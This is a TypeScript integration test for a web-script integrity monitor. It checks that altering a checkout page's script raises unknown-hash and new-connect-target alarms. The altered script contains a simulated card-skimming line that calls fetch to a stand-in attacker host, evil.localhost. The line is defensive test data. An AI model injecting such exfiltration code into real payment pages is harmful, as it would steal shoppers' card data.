import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import type { IntegrityAlarm, IntegrityHome, InventoryScript } from '@candor/protocol/integrity-api.ts'
import type { Browser } from 'playwright-core'
import { launchBrowser } from '../../test/chromium.ts'
import { TestPlatform, type TestTenant } from '../../test/test-platform.ts'
import { openTlsProxy, type TlsProxy } from '../../test/tls-proxy.ts'

/** The tenant's shop and Candor, each behind https on another origin, as Chromium's reports require. */
let shop: Server
let shopTls: TlsProxy
let candorTls: TlsProxy
let platform: TestPlatform
let tenant: TestTenant
let browser: Browser
/** Candor itself, behind its proxy. */
let plain: string
let headers: Record<string, string> = {}
/** Scripts come from a host of their own, plain: it is this machine, which browsers and our outbound take. */
let scriptsUrl = ''
const files = new Map<string, string>()

const sha256 = (text: string) => `sha256-${createHash('sha256').update(text).digest('base64')}`

function pageOf(): string {
  return `<!doctype html><title>Pay</title>
    <script src="${scriptsUrl}/shop.js" crossorigin></script>
    <script src="${scriptsUrl}/pay.js" crossorigin></script>
    <script src="${scriptsUrl}/opaque.js"></script>
    <script>
      const scripts = [...document.scripts].map((script) => script.src).filter(Boolean)
      navigator.sendBeacon('${candorTls.url}/v1/page-views', JSON.stringify({
        t: '${tenant.slug}', v: crypto.randomUUID(), n: crypto.randomUUID(), u: location.origin + location.pathname,
        c: false, l: '${candorTls.url}/w/loader.js', i: true, m: '', s: scripts, e: '' }))
      fetch('${scriptsUrl}/elsewhere').catch(() => 0)
    </script>`
}

before(async () => {
  shopTls = await openTlsProxy()
  candorTls = await openTlsProxy()
  shop = createServer((request, response) => {
    const body = files.get(request.url!)
    if (body !== undefined)
      response
        .writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' })
        .end(body)
    else if (request.url!.startsWith('/pay'))
      response.writeHead(200, { 'content-type': 'text/html', ...headers }).end(pageOf())
    else response.writeHead(404).end()
  })
  await new Promise<void>((done) => shop.listen(0, '127.0.0.1', done))
  scriptsUrl = `http://127.0.0.1:${(shop.address() as AddressInfo).port}`
  shopTls.to(scriptsUrl)
  const port = await freePort()
  plain = `http://127.0.0.1:${port}`
  candorTls.to(plain)
  platform = await TestPlatform.start({
    config: { port, publicUrl: candorTls.url, trustProxy: true, privateOrigins: [scriptsUrl] },
  })
  tenant = await platform.tenant()
  await platform.candor.tenants.addSite(tenant.id, shopTls.url)
  browser = await launchBrowser(['--ignore-certificate-errors', '--short-reporting-delay'])
})
after(async () => {
  await browser?.close()
  await platform?.stop()
  await TestPlatform.end()
  shopTls.close()
  candorTls.close()
  shop.close()
})

async function freePort(): Promise<number> {
  const server = createServer()
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const { port } = server.address() as AddressInfo
  await new Promise((done) => server.close(done))
  return port
}

async function ask<T>(path: string, body?: object): Promise<T> {
  await platform.candor.observations.flush()
  await platform.candor.integrity.settled()
  const answer = await fetch(`${plain}/v1/integrity${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: {
      authorization: `Bearer ${tenant.key}`,
      ...(body === undefined
        ? {}
        : { 'content-type': 'application/json', 'idempotency-key': platform.ids.next() }),
    },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })
  assert.equal(answer.status, 200, await answer.clone().text())
  return (await answer.json()) as T
}

/** A visitor of their own: fresh caches, a fresh reporting endpoint. */
async function visit(): Promise<void> {
  const context = await browser.newContext({ ignoreHTTPSErrors: true })
  // Chromium keeps reports of hidden pages back where a page may not do things in the background.
  await context.grantPermissions(['background-sync'], { origin: shopTls.url })
  const page = await context.newPage()
  await page.goto(`${shopTls.url}/pay`)
  await page.waitForTimeout(1_500)
  await context.close()
}

async function until<T>(what: () => Promise<T>, holds: (value: T) => boolean): Promise<T> {
  const end = Date.now() + 20_000
  for (;;) {
    const value = await what()
    if (holds(value)) return value
    assert.ok(Date.now() < end, JSON.stringify(value))
    await new Promise((resolve) => setTimeout(resolve, 200))
  }
}

test('a browser tells the hash of an altered script: an alarm with page, hash, share and body', async () => {
  files.set('/shop.js', 'window.shop = 1')
  files.set('/pay.js', 'window.pay = 1')
  files.set('/opaque.js', 'window.opaque = 1')
  const home = await ask<IntegrityHome>('')
  headers = Object.fromEntries(
    home.reporting.headers.map((line) => [
      line.slice(0, line.indexOf(':')),
      line.slice(line.indexOf(':') + 2),
    ]),
  )
  await visit()
  const hashesOf = (scripts: InventoryScript[], file: string) =>
    scripts.find(({ url }) => url === `${scriptsUrl}/${file}`)?.hashes.map(({ hash }) => hash) ?? []
  const { items } = await until(
    () => ask<{ items: InventoryScript[] }>('/scripts'),
    ({ items: seen }) => hashesOf(seen, 'pay.js')[0] != null && hashesOf(seen, 'shop.js')[0] != null,
  )
  assert.deepEqual(hashesOf(items, 'pay.js'), [sha256('window.pay = 1')])
  // Of a script from elsewhere without CORS a browser tells no hash: it is in the inventory by its address.
  assert.deepEqual(hashesOf(items, 'opaque.js'), [null])
  const [page] = (await ask<IntegrityHome>('')).pages
  assert.equal(page!.template, `${shopTls.url}/pay`)
  await ask('/scripts/approve-template', { template: page!.id, justification: 'As built' })

  await visit()
  files.set('/pay.js', 'window.pay = 1; fetch("https://evil.localhost/?card")')
  await visit()
  const altered = sha256(files.get('/pay.js')!)
  const { items: found } = await until(
    () => ask<{ items: IntegrityAlarm[] }>('/alarms?state=open'),
    ({ items: seen }) =>
      seen.some(({ kind }) => kind === 'unknown-hash') &&
      seen.some(({ kind }) => kind === 'new-connect-target'),
  )
  const alarm = found.find(({ kind, hash }) => kind === 'unknown-hash' && hash === altered)!
  assert.deepEqual(
    [alarm.page, alarm.script, alarm.bodyKept, alarm.standing],
    [`${shopTls.url}/pay`, `${scriptsUrl}/pay.js`, true, 'fetched'],
  )
  assert.ok(alarm.share! > 0 && alarm.share! < 1, String(alarm.share))
  assert.ok(
    found.some(({ kind, script }) => kind === 'new-connect-target' && script === 'https://evil.localhost'),
  )
  const body = await fetch(`${plain}/v1/integrity/bodies/${encodeURIComponent(altered)}`, {
    headers: { authorization: `Bearer ${tenant.key}` },
  })
  assert.equal(await body.text(), files.get('/pay.js'))
})
